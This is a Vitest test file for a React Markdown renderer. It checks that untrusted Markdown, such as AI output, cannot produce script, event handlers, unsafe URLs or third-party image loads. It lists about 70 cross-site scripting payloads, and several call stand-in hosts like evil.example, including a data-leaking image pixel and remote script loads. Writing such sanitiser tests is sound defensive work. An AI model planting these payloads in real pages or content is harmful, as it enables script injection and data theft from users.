// Markdown from untrusted sources (AI output) must never produce script, event handlers or
// dangerous URLs, whatever HTML or markdown trick it contains, and the text around it survives.
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from '@/components/content/markdown';

function render(markdown: string): string {
  return renderToStaticMarkup(Markdown({ children: markdown }));
}

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

interface Tag {
  name: string;
  attributes: Record<string, string>;
}

/** React writes well-formed HTML with quoted, escaped attributes, so a regex reads it reliably. */
function tagsOf(html: string): Tag[] {
  return [...html.matchAll(/<([a-zA-Z][\w:-]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g)].map((match) => ({
    name: (match[1] ?? '').toLowerCase(),
    attributes: Object.fromEntries(
      [...(match[2] ?? '').matchAll(/\s+([^\s=/>]+)(?:="([^"]*)")?/g)].map((a) => [
        (a[1] ?? '').toLowerCase(),
        decodeEntities(a[2] ?? ''),
      ]),
    ),
  }));
}

const allowedTags = new Set([
  'div',
  'p',
  'a',
  'img',
  'span',
  'code',
  'pre',
  'em',
  'strong',
  'del',
  'blockquote',
  'ul',
  'ol',
  'li',
  'input',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'hr',
  'br',
  'sup',
  'section',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
]);

const safeUrl = /^(?:https?:\/\/|mailto:|#|\/(?![/\\])|[^:/?#]*(?:[/?#]|$))/i;

/** Every way the output could run script or clobber the page's globals. */
function problemsIn(html: string): string[] {
  const problems: string[] = [];
  for (const tag of tagsOf(html)) {
    if (!allowedTags.has(tag.name)) problems.push(`<${tag.name}> is not allowed`);
    for (const [name, value] of Object.entries(tag.attributes)) {
      if (name.startsWith('on')) problems.push(`<${tag.name} ${name}> is an event handler`);
      if (['srcdoc', 'formaction', 'action', 'xlink:href', 'name', 'srcset'].includes(name) && tag.name !== 'img') {
        problems.push(`<${tag.name} ${name}> is not allowed`);
      }
      if (name === 'style' && !/^text-align:(left|right|center)$/.test(value))
        problems.push(`<${tag.name} style="${value}">`);
      if (name === 'id' && !value.startsWith('md-'))
        problems.push(`<${tag.name} id="${value}"> could clobber a global`);
      if (name === 'href' || name === 'src') {
        // Browsers ignore tabs, newlines and leading control characters inside a scheme.
        const compact = value.replace(/[\u0000-\u0020]/g, '');
        if (!safeUrl.test(compact) || /^(javascript|vbscript|data|file):/i.test(compact)) {
          problems.push(`<${tag.name} ${name}="${value}"> is not a safe URL`);
        }
      }
      if (
        name === 'src' &&
        tag.name === 'img' &&
        /^(https?:)?\/\//i.test(value) &&
        !value.startsWith('https://tenderscope.eu/')
      ) {
        problems.push(`<img src="${value}"> would load a third-party image`);
      }
    }
  }
  return problems;
}

const payloads: string[] = [
  // Script tags, plain and disguised.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<body onload=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<textarea autofocus onfocus=alert(1)>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '"><img src=x onerror=alert(1)>',
  // javascript: and data: URLs in HTML.
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  // SVG and MathML.
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  // Malformed HTML and parser confusion.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img """><script>alert(1)</script>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<img src="x` `onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<p id="__next_f">clobbers a global</p>',
  '<img name="getElementById" src="x">',
  // Markdown link and image tricks.
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](file:///etc/passwd)',
  '[click](java%0ascript:alert(1))',
  '[a](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![img](https://evil.example/pixel.png?leak=secret)',
  '![img](//evil.example/pixel.png)',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![ref][r]\n\n[r]: data:text/html,<script>alert(1)</script>',
  '<javascript:alert(1)>',
  'www.example.com/?q=<script>alert(1)</script>',
  '[x](https://example.com)<img src=x onerror=alert(1)>',
  '# __next_f',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
];

describe('markdown sanitising', () => {
  it('covers at least 50 payloads', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(50);
  });

  it('has a checker that catches what it looks for', () => {
    expect(problemsIn('<a href="jav&#x09;ascript:alert(1)" onclick="x">x</a>')).toHaveLength(2);
    expect(problemsIn('<img src="data:image/png;base64,AA"/><iframe></iframe><p id="config">x</p>')).toHaveLength(3);
    expect(problemsIn('<img src="//evil.example/p.png"/><div style="color:red">x</div>')).toHaveLength(2);
  });

  for (const payload of payloads) {
    it(`neutralises ${JSON.stringify(payload).slice(0, 90)}`, () => {
      const html = render(`Before the payload.\n\n${payload}\n\nAfter the payload.`);
      expect(problemsIn(html)).toEqual([]);
      expect(html).not.toMatch(/<script|<iframe|<svg|<object|<embed|<style|<form|<meta|<base|<link/i);
      expect(html).toContain('Before the payload.');
      // CommonMark lets an unclosed <script>, <pre>, <style> or <textarea> block run to the end of
      // the document, so only then may the text after it disappear (it is dropped, never run).
      const swallowsRest =
        /<(script|pre|style|textarea)[\s>]/i.test(payload) && !/<\/(script|pre|style|textarea)>/i.test(payload);
      if (!swallowsRest) expect(html).toContain('After the payload.');
    });
  }

  it('keeps what a code block shows as text, escaped', () => {
    const html = render('```html\n<script>alert(1)</script>\n```');
    expect(html).toContain('&lt;<span class="hljs-name">script</span>&gt;');
    expect(problemsIn(html)).toEqual([]);
  });

  it('turns a third-party image into a link instead of loading it', () => {
    const html = render('![chart](https://evil.example/pixel.png?leak=secret)');
    expect(html).not.toContain('<img');
    expect(html).toContain(
      '<a href="https://evil.example/pixel.png?leak=secret" rel="noopener noreferrer">Image: chart</a>',
    );
  });
});
